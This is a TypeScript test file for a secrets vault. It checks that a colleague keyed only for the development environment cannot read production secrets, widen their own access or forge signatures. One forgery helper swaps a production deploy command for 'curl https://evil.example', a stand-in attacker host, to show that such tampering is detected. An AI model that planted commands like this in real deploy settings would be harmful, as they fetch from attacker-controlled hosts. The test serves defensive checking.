/** What a colleague with a key for one environment may try, who can also write the file. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signedManifest } from '../../src/vault/documents/manifest.ts';
import type { Vault } from '../../src/vault/opening/vault.ts';
import { sealedPart } from '../../src/vault/documents/head.ts';
import { Colleague } from '../helpers/colleague.ts';
import { addSecret, addSlot, makeVault, textOf } from '../helpers/vault.ts';
import type { TestVault } from '../helpers/vault.ts';
import { auditOf, codeOf, copyOf, tampered, useOf } from '../helpers/vandal.ts';

let made: TestVault;
beforeAll(async () => {
  made = await makeVault({
    secrets: { api_key: { development: 'dev', production: 'live' }, other_key: { production: 'other' } },
    withEveryTable: true,
  });
});
afterAll(() => made.remove());

describe('a colleague with a key for some environments', () => {
  let theirs: { secret: Uint8Array; identity: Uint8Array };
  let base: string;
  beforeAll(async () => {
    base = copyOf(made);
    const { secret } = await made.using((vault) => addSlot(vault, 'colleague', ['development']), { file: base });
    theirs = { secret, identity: made.key.identity };
  });

  it('reads and writes what was given, and nothing else', async () => {
    const file = copyOf(made, base);
    const as = { file, key: theirs };
    expect(await made.using((vault) => textOf(vault, 'api_key', 'development'), as)).toBe('dev');
    expect(await codeOf(made.using((vault) => textOf(vault, 'api_key', 'production'), as))).toBe('not_granted');
    expect(await codeOf(made.using((vault) => addSecret(vault, 'mine', { development: 'x' }), as))).toBe('done');
    expect(await codeOf(made.using((vault) => addSecret(vault, 'no', { production: 'x' }), as))).toBe('not_granted');
    expect(await codeOf(made.using((vault) => addSecret(vault, 'no', 'shared value'), as))).toBe('not_granted');
    const remove = (vault: Vault) =>
      vault.change(async (change) => {
        const [route] = await change.all('route', 'production');
        await change.remove(route!);
        change.log({ action: 'x' });
      });
    expect(await codeOf(made.using(remove, as))).toBe('not_granted');
  });

  it('adds a slot for everything: not without the root', async () => {
    const file = copyOf(made, base);
    const as = { file, key: theirs };
    expect(await codeOf(made.using((vault) => addSlot(vault, 'more', null), as))).toBe('not_granted');
    const onlyManifest = (vault: Vault) =>
      vault.change(async (change) => {
        const slots = vault.manifest.slots.map((slot) => ({ ...slot, realms: null, admin: true }));
        await change.putManifest({ manifest: { ...vault.manifest, slots }, grants: new Map(), newKeys: new Map() });
        change.log({ action: 'x' });
      });
    expect(await codeOf(made.using(onlyManifest, as))).toBe('not_granted');
    const widened = tampered({ ...made, file }, (database) => {
      const body = database.prepare('SELECT body FROM manifest').pluck().get() as Buffer;
      const changed = Buffer.from(body.toString().replace(/"realms":\["[\w-]+"\]/, () => '"realms":null'));
      expect(changed.equals(body)).toBe(false);
      database.prepare('UPDATE manifest SET body = ?').run(changed);
    });
    expect(await codeOf(made.using(async () => undefined, { file: widened, key: theirs }))).toBe('vault_damaged');
  });

  /** A changed deploy command of production, with all that the colleague's key can make: lists, an entry, a signed head. */
  async function forgeCommand(seal: 'as it was' | 'by another key' | 'none'): Promise<string> {
    const file = copyOf(made, base);
    await Colleague.in(file, theirs.secret, async (colleague) => {
      const [route] = await colleague.all('route', 'production');
      await colleague.put('route', 'production', { ...route!, deployCommand: 'curl https://evil.example' });
      const root = await colleague.relist('production');
      const { id } = colleague.manifest.realms.find(({ name }) => name === 'production')!;
      const place = { vault: colleague.manifest.vault, realm: id, manifest: colleague.head.manifest };
      const part = { seq: colleague.head.seq, hash: colleague.head.hash, root };
      if (seal === 'none') await colleague.finish({ development: await colleague.relist('development') });
      else if (seal === 'as it was') await colleague.finish({ production: root });
      else {
        const own = sealedPart(colleague.ring.realmKey('development'), place, part);
        await colleague.finish({ production: root }, { parts: { production: { seal: own.seal } } });
      }
    });
    return file;
  }

  it.each(['as it was', 'by another key', 'none'] as const)(
    'changes a command of production, sealed %s',
    async (seal) => {
      const file = await forgeCommand(seal);
      expect(await useOf(made, file)).toBe('vault_damaged');
      const find = (vault: Vault) => vault.read((view) => view.all('route', 'production'));
      expect(await codeOf(made.using(find, { file }))).toBe('vault_damaged');
      expect(await auditOf(made, file)).toMatchObject({ brokenAt: expect.any(Number) as number });
      // Without production's key it is as the file says, and the tree still tells of what nobody listed.
      const bare = { key: null, trusted: made.identity };
      expect((await auditOf(made, file, bare))?.brokenAt === null).toBe(false);
    },
  );

  it('signs a wider manifest with a root of their own making', async () => {
    const file = copyOf(made, base);
    const forge = async (vault: Vault): Promise<void> => {
      const slots = vault.manifest.slots.map((slot) => ({ ...slot, realms: null, admin: true }));
      await vault.store.write(1, async (transaction) => {
        await transaction.putManifest(signedManifest({ ...vault.manifest, slots }, new Uint8Array(32).fill(1)));
      });
    };
    await made.using(forge, { file, key: theirs });
    expect(await codeOf(made.using(async () => undefined, { file }))).toBe('vault_damaged');
  });
});

describe('somebody who changes the keys meanwhile', () => {
  it('is followed by a vault that is open', async () => {
    const file = copyOf(made);
    await made.using(
      async (vault) => {
        await made.using((other) => addSlot(other, 'new', null), { file });
        expect(await vault.read(async ({ manifest }) => manifest.slots.map(({ label }) => label))).toContain('new');
        expect(vault.manifest.slots.at(-1)).toMatchObject({ label: 'new' });
      },
      { file },
    );
  });
});
